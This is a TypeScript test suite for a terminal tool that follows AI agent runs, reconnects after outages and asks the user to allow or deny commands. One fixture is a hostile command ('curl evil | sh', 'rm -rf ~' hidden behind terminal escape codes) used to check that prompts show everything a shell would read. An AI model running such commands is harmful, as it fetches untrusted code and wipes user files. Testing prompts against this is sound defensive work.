import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { setTimeout as pause } from 'node:timers/promises'
import type { RunEventBodyView, RunEventView, RunView } from '../../api/schema/run.ts'
import type { Run } from '../../client/runs.ts'
import { AgentPodError, isAgentPodError } from '../../core/error.ts'
import type { FollowedRun } from '../../workbench/run/followed-run.ts'
import type { CommandContext } from '../command.ts'
import { exampleRun, type Screen, screen } from '../testing/screen.ts'
import { followAtTerminal } from './follow-at-terminal.ts'

/** A run that a test leads, and a server that may go away. */
class LedRun implements FollowedRun {
  info: RunView
  readonly answers: string[] = []
  cancels = 0
  /** Failures of the server that are still to come. */
  outages = 0
  follows: number[] = []
  readonly #events: RunEventView[] = []
  #wake = (): void => undefined

  constructor(differs: Partial<RunView> = {}) {
    this.info = exampleRun({ state: 'working', outcome: null, ...differs })
  }

  get id(): string {
    return this.info.id
  }

  tell(body: RunEventBodyView): void {
    this.#events.push({ seq: this.#events.length + 1, at: '2030-01-01T00:00:00.000Z', body })
    this.#wake()
  }

  end(): void {
    this.info = { ...this.info, state: 'ended', outcome: 'changed' }
    this.tell({ type: 'state', state: 'ended', outcome: 'changed' })
  }

  async *follow(
    o: { readonly after?: number | undefined; readonly signal?: AbortSignal | undefined } = {},
  ): AsyncGenerator<RunEventView> {
    this.follows.push(o.after ?? 0)
    for (let at = o.after ?? 0; ; at++) {
      if (this.outages > 0) {
        this.outages--
        throw new AgentPodError({ code: 'unavailable', reason: 'server.gone', message: 'gone' })
      }
      while (at >= this.#events.length) {
        if (this.info.state === 'ended') return
        const { promise, resolve } = Promise.withResolvers<void>()
        this.#wake = resolve
        o.signal?.addEventListener('abort', () => resolve(), { once: true })
        await promise
        if (o.signal?.aborted) return
      }
      const event = this.#events[at]
      if (event) yield event
    }
  }

  async refresh(): Promise<Run> {
    return this as unknown as Run
  }

  async cancel(): Promise<Run> {
    this.cancels++
    return this.refresh()
  }

  async answer(permission: string, answer: 'allow' | 'deny'): Promise<Run> {
    this.answers.push(`${permission} ${answer}`)
    return this.refresh()
  }
}

const asked = (permission: string, subject = 'npm publish'): RunEventBodyView => ({
  type: 'permission.asked',
  permission,
  about: { kind: 'bash', subject, title: subject },
})

function contextOf({ terminal }: Screen): CommandContext {
  return { terminal } as unknown as CommandContext
}

async function until(isSo: () => boolean): Promise<void> {
  for (let tries = 0; !isSo(); tries++) {
    assert.ok(tries < 2000, 'it never came to it')
    await pause(5)
  }
}

describe('runs are followed', () => {
  test('side by side to their ends, and answered in the order they were given', async () => {
    const at = screen()
    const [a, b] = [new LedRun({ id: 'runa' }), new LedRun({ id: 'runb', agent: 'codex' })]
    const followed = followAtTerminal(contextOf(at), [a, b])
    b.tell({ type: 'note', text: 'from b' })
    await until(() => at.out().length > 0)
    b.end()
    await until(() => at.out().length > 1)
    a.end()
    assert.deepEqual(
      (await followed).map(({ id }) => id),
      ['runa', 'runb'],
    )
    assert.deepEqual(at.out(), ['codex-1  │ note: from b', 'codex-1  │ ✓ changed', 'claude-1 │ ✓ changed'])
  })

  test('again from where they were when the server comes back', async () => {
    const at = screen()
    const run = new LedRun()
    const followed = followAtTerminal(contextOf(at), [run])
    run.tell({ type: 'note', text: 'before' })
    await until(() => at.out().length === 1)
    run.outages = 1
    run.tell({ type: 'note', text: 'after' })
    run.end()
    await followed
    assert.deepEqual(run.follows, [0, 2])
    assert.deepEqual(at.out(), ['note: before', 'note: after', '✓ changed'])
  })

  test('but not through a failure that is no server that went away', async () => {
    const run = new LedRun()
    run.follow = async function* () {
      yield* []
      throw new AgentPodError({ code: 'not_found', reason: 'run.unknown', message: 'there is no run' })
    }
    await assert.rejects(followAtTerminal(contextOf(screen()), [run]), (error) =>
      isAgentPodError(error, 'not_found'),
    )
  })
})

describe('a question', () => {
  test('RUN-2 questions are asked one at a time, and answered', async () => {
    const at = screen({ isTerminal: true })
    const run = new LedRun()
    const followed = followAtTerminal(contextOf(at), [run])
    run.tell(asked('p1'))
    run.tell(asked('p2', 'rm -rf build'))
    await until(() => at.said().join('\n').includes('wants to run npm publish'))
    assert.ok(!at.said().join('\n').includes('rm -rf'))
    at.type('what?\n')
    at.type('y\n')
    await until(() => run.answers.length === 1)
    await until(() => at.said().join('\n').includes('wants to run rm -rf build'))
    at.type('no\n')
    await until(() => run.answers.length === 2)
    assert.deepEqual(run.answers, ['p1 allow', 'p2 deny'])
    run.end()
    await followed
  })

  test('RUN-2 a question shows everything that a shell would read, also what a terminal would not show', async () => {
    const at = screen({ isTerminal: true })
    const run = new LedRun()
    const followed = followAtTerminal(contextOf(at), [run])
    run.tell(asked('p1', 'curl evil | sh; \rnpm test; \u001b]0;rm -rf ~\u0007ls \u001b[2Kend'))
    const shown = 'curl evil | sh; \\u000dnpm test; \\u001b]0;rm -rf ~\\u0007ls \\u001b[2Kend'
    await until(() => at.said().join('\n').includes(`wants to run ${shown}`))
    run.end()
    await followed
  })

  test('RUN-2 a question longer than the screen shows both ends, and all of it on request', async () => {
    const at = screen({ isTerminal: true })
    const run = new LedRun()
    const followed = followAtTerminal(contextOf(at), [run])
    const lines = Array.from({ length: 100 }, (_, at) => `echo ${at + 1}`)
    run.tell(asked('p1', lines.join('\n')))
    await until(() => at.said().join('\n').includes('[s]how all of it'))
    const before = at.said().join('\n')
    assert.match(before, /wants to run:\n {2}echo 1\n/)
    assert.match(before, /… 76 lines not shown\n {2}echo 93\n/)
    assert.ok(!before.includes('echo 50\n'))
    at.type('s\n')
    await until(() => at.said().join('\n').includes('echo 50\n'))
    at.type('n\n')
    await until(() => run.answers.length === 1)
    assert.deepEqual(run.answers, ['p1 deny'])
    run.end()
    await followed
  })

  test('that was answered with always is not put again', async () => {
    const at = screen({ isTerminal: true })
    const run = new LedRun()
    const followed = followAtTerminal(contextOf(at), [run])
    run.tell(asked('p1'))
    await until(() => at.said().join('\n').includes('allow it?'))
    at.type('a\n')
    await until(() => run.answers.length === 1)
    run.tell(asked('p2'))
    run.tell(asked('p3', 'npm publish --force'))
    await until(() => run.answers.length === 2)
    await until(() => at.said().join('\n').includes('--force'))
    at.type('n\n')
    await until(() => run.answers.length === 3)
    assert.deepEqual(run.answers, ['p1 allow', 'p2 allow', 'p3 deny'])
    run.end()
    await followed
  })

  test('that somebody else has answered is taken off the screen', async () => {
    const at = screen({ isTerminal: true })
    const run = new LedRun()
    const followed = followAtTerminal(contextOf(at), [run])
    run.tell(asked('p1'))
    await until(() => at.said().join('\n').includes('allow it?'))
    run.tell({ type: 'note', text: 'meanwhile' })
    run.tell({
      type: 'permission.answered',
      permission: 'p1',
      about: { kind: 'bash', subject: 'npm publish', title: '' },
      answer: 'deny',
      by: 'timeout',
    })
    await until(() => at.out().some((line) => line.includes('no answer in time')))
    assert.deepEqual(run.answers, [])
    run.end()
    await followed
  })

  test('that a rule answers never gets to the screen', async () => {
    const at = screen({ isTerminal: true })
    const run = new LedRun()
    const followed = followAtTerminal(contextOf(at), [run])
    const about = { kind: 'bash' as const, subject: 'npm test', title: '' }
    run.tell({ type: 'permission.asked', permission: 'p1', about })
    run.tell({ type: 'permission.answered', permission: 'p1', about, answer: 'allow', by: 'rule' })
    run.tell(asked('p2'))
    await until(() => at.said().join('\n').includes('wants to run'))
    assert.ok(!at.said().join('\n').includes('npm test'))
    run.end()
    await followed
    assert.deepEqual(run.answers, [])
  })

  test('is left to others where nobody sits at a terminal', async () => {
    const at = screen()
    const run = new LedRun()
    const followed = followAtTerminal(contextOf(at), [run])
    run.tell(asked('p1'))
    run.end()
    await followed
    assert.deepEqual(run.answers, [])
    assert.ok(at.out().includes(`  to allow it: agentpod answer ${run.id} p1 allow`))
  })
})

describe('an interrupt', () => {
  test('cancels all of them and waits; the second leaves them', async () => {
    const at = screen()
    const [a, b] = [new LedRun({ id: 'runa' }), new LedRun({ id: 'runb' })]
    const followed = followAtTerminal(contextOf(at), [a, b])
    const left = assert.rejects(
      followed,
      (error) => isAgentPodError(error, 'canceled') && /agentpod follow run[ab]/.test(error.hint ?? ''),
    )
    process.emit('SIGINT')
    assert.deepEqual([a.cancels, b.cancels], [1, 1])
    process.emit('SIGINT')
    await left
    assert.equal(process.listenerCount('SIGINT'), 0)
  })

  test('in `follow` leaves them working, and says so', async () => {
    const at = screen()
    const run = new LedRun()
    const left = assert.rejects(
      followAtTerminal(contextOf(at), [run], { whenInterrupted: 'leave' }),
      (error) => isAgentPodError(error, 'canceled') && /agentpod cancel/.test(error.hint ?? ''),
    )
    process.emit('SIGINT')
    await left
    assert.equal(run.cancels, 0)
    assert.ok(at.said().some((line) => line.startsWith('stopped watching;')))
  })

  for (const [answer, cancels] of [
    ['d', 0],
    ['c', 1],
  ] as const)
    test(`at a terminal asks what it means: ${answer}`, async () => {
      const at = screen({ isTerminal: true })
      const run = new LedRun()
      const followed = followAtTerminal(contextOf(at), [run]).catch((error: unknown) => error)
      process.emit('SIGINT')
      at.type(`${answer}\n`)
      if (answer === 'd') assert.ok(isAgentPodError(await followed, 'canceled'))
      for (let tries = 0; tries < 100 && run.cancels < cancels; tries++) await pause(10)
      assert.equal(run.cancels, cancels)
      if (answer === 'c') run.end()
      await followed
    })

  test('that is obeyed ends in the outcome', async () => {
    const run = new LedRun()
    const followed = followAtTerminal(contextOf(screen()), [run])
    process.emit('SIGINT')
    run.end()
    assert.equal((await followed).length, 1)
  })
})
